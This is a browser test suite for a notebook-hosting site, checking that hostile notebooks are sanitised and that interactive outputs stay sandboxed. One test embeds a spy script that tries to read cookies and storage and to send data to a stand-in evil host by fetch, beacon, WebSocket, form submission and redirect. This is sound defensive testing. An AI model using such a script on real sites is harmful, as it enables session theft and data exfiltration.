"""Hostile notebooks in a real browser: no script runs, no request leaves, no cookie is read, nothing costs much."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field

import nbformat
import pytest
import requests
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.hostile import CODE, EVIL, HTML, code, notebooks
from tests.http.conftest import Answering, serve

OWN = """() => {
    scrollTo(0, 0);
    const ids = [...document.querySelectorAll('[id]')].map(one => one.id), brand = document.querySelector('.brand');
    const { x, y } = brand.getBoundingClientRect(), top = document.elementFromPoint(x + 4, y + 4);
    const twice = new Set(ids.filter((id, place) => ids.indexOf(id) !== place));
    return [...twice, ...(brand.contains(top) ? [] : ['covered'])];
}"""
"""ids that two elements have, and whether something lies over the bar"""
CORPUS = dict(notebooks())


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Answering]:
    """A served repository."""
    yield from serve(tmp_path_factory.mktemp("hostile"))


@dataclass
class Watched:
    """A signed-in browser, and all that it did beyond showing our own pages."""

    context: BrowserContext
    page: Page
    url: str
    left: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)
    sent: list[tuple[str, str]] = field(default_factory=list)

    def harmless(self, where: str) -> None:
        """Nothing ran and nothing left."""
        assert self.page.url.split("?")[0].split("#")[0] == where, "the page was led away"
        assert not self.dialogs
        assert not self.left
        assert self.page.evaluate("window.ran") is None
        assert self.page.title() != "ran"
        assert self.page.evaluate("document.cookie") == "", "no cookie can be read by a script"


@pytest.fixture
def watched(browser: Browser, repo: Answering) -> Iterator[Watched]:
    """Ada's browser."""
    context = browser.new_context(viewport={"width": 1000, "height": 900})
    page = context.new_page()
    session = sign_in(repo)
    context.add_cookies(
        [{"name": one.name, "value": str(one.value), "url": repo.url, "httpOnly": True} for one in session.cookies]
    )
    found = Watched(context, page, repo.url)

    def watch(route: Route) -> None:
        found.sent.append((route.request.url, route.request.headers.get("cookie", "")))
        if route.request.url.startswith(repo.url):
            route.continue_()
        else:
            found.left.append(route.request.url)
            route.abort()

    context.route("**/*", watch)
    page.on("dialog", lambda dialog: (found.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: found.refused.append(message.text) if "Refused" in message.text else None)
    yield found
    context.close()


def sign_in(repo: Answering) -> requests.Session:
    session = requests.Session()
    form = session.get(f"{repo.url}/login", timeout=60).text
    token = re.search(r'name="_xsrf" value="([^"]+)"', form)
    assert token is not None
    data = {"_xsrf": token[1], "name": "ada", "password": "secret-ada"}
    assert session.post(f"{repo.url}/login", data=data, timeout=60).status_code == 200
    return session


def publish(repo: Answering, number: int, notebook: object) -> str:
    body = nbformat.writes(notebook).encode()
    answer = repo.put(f"/api/upload/ada/attack-{number}.ipynb?allow_findings=1", by="ada", data=body)
    assert answer.status_code == 201, answer.text
    return f"/ada/attack-{number}"


def test_a_hostile_notebook_is_only_looked_at(repo: Answering, watched: Watched) -> None:
    failed = []
    for number, (name, notebook) in enumerate(CORPUS.items()):
        where = repo.url + publish(repo, number, notebook)
        answer = watched.page.goto(where)
        assert answer is not None
        try:
            assert answer.status == 200
            expect(watched.page.locator("article.notebook")).to_be_visible()
            for link in watched.page.locator("article.notebook a:not(.anchor-link)").all()[:12]:
                target = link.get_attribute("href") or ""
                assert not target or re.match(r"(https?:|mailto:|[/?#.\w])", target), target
                assert not re.match(r"\s*(javascript|data|vbscript|blob):", target, re.IGNORECASE), target
            watched.page.mouse.move(300, 500)
            watched.page.mouse.move(500, 700)
            watched.harmless(where)
            assert watched.page.evaluate(OWN) == [], "what is ours is on top, and no name is there twice"
            assert not watched.refused, "the sanitiser alone must be enough: the policy is the second wall"
        except AssertionError as error:
            failed.append(f"{name}: {error}")
            watched.left.clear()
            watched.dialogs.clear()
            watched.refused.clear()
    assert not failed, "\n".join(failed)


def test_search_shows_what_hostile_notebooks_say_as_text(repo: Answering, watched: Watched) -> None:
    publish(repo, 900, nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(f"findable {HTML['handlers']}")]))
    for path in ("/?q=findable", "/?q=onerror", "/ada"):
        watched.page.goto(repo.url + path)
        watched.harmless(repo.url + path.split("?")[0])


def test_interactive_outputs_run_by_a_click_in_a_closed_frame(repo: Answering, watched: Watched) -> None:
    spy = """<p id="works">dead</p><script>
      const say = (what, value) => document.body.append(`|${what}=${value}`);
      document.getElementById("works").textContent = "alive";
      try { say("cookie", document.cookie) } catch (error) { say("cookie", error.name) }
      try { say("storage", localStorage.length) } catch (error) { say("storage", error.name) }
      try { say("parent", parent.document.title) } catch (error) { say("parent", error.name) }
      say("origin", origin);
      say("calls", typeof RTCPeerConnection);
      const own = fetch("/api/user").then(() => say("own", "reached"), () => say("own", "refused"));
      const other = fetch("EVIL/f").then(() => say("other", "reached"), () => say("other", "refused"));
      new Image().src = "EVIL/i.png"; navigator.sendBeacon("EVIL/b");
      try { new WebSocket("ws://evil.example/w") } catch (error) { }
      try { open("EVIL/o") } catch (error) { }
      try { top.location = "EVIL/t" } catch (error) { say("top", error.name) }
      const form = document.createElement("form"); form.action = "EVIL/p"; document.body.append(form); form.submit();
      Promise.all([own, other]).then(() => say("done", 1)); onmessage = () => { location = "EVIL/l" };
    </script>""".replace("EVIL", EVIL)
    where = publish(repo, 901, nbformat.v4.new_notebook(cells=[code(**{"text/html": spy, "text/plain": "plain"})]))
    repo.patch(f"/api/package{where}", by="ada", json={"visibility": "private"})
    page = watched.page
    page.goto(repo.url + where)
    assert page.locator("iframe").count() == 0
    page.get_by_role("link", name="Run it in a closed frame").click()
    frame = page.frame_locator("iframe")
    expect(frame.locator("#works")).to_have_text("alive")
    expect(frame.locator("body")).to_contain_text("|done=1")
    said = frame.locator("body").inner_text()
    for what in (
        "cookie=SecurityError",
        "storage=SecurityError",
        "parent=SecurityError",
        "origin=null",
        "calls=undefined",
    ):
        assert f"|{what}" in said
    assert "|own=refused" in said
    assert "|other=refused" in said
    page.evaluate("document.querySelector('iframe').contentWindow.postMessage('go', '*')")
    expect(frame.locator("#works")).to_have_count(0)  # it went, and arrived nowhere
    watched.harmless(repo.url + where)
    assert len(watched.context.pages) == 1, "no window was opened"
    assert page.evaluate("document.querySelector('iframe').sandbox.value") == "allow-scripts"


def test_the_frame_s_document_is_no_page_of_its_own(repo: Answering, watched: Watched) -> None:
    where = publish(repo, 902, nbformat.v4.new_notebook(cells=[code(**{"text/html": f"<script>{CODE}</script>"})]))
    watched.page.goto(f"{repo.url}{where}/1/interactive")
    watched.harmless(f"{repo.url}{where}/1")
    framed = repo.get(f"{where}/1/interactive", headers={"Sec-Fetch-Dest": "iframe"})
    policy = framed.headers["Content-Security-Policy"]
    for word in ("sandbox allow-scripts;", "default-src 'none'", "connect-src 'none'", "frame-ancestors 'self'"):
        assert word in policy
    assert "allow-same-origin" not in policy
    assert "Set-Cookie" not in framed.headers
    repo.patch(f"/api/package{where}", by="ada", json={"visibility": "private"})
    hidden = repo.get(f"{where}/1/interactive", headers={"Sec-Fetch-Dest": "iframe"})
    absent = repo.get("/ada/nothing-here/1/interactive", headers={"Sec-Fetch-Dest": "iframe"})
    assert hidden.status_code == absent.status_code == 404
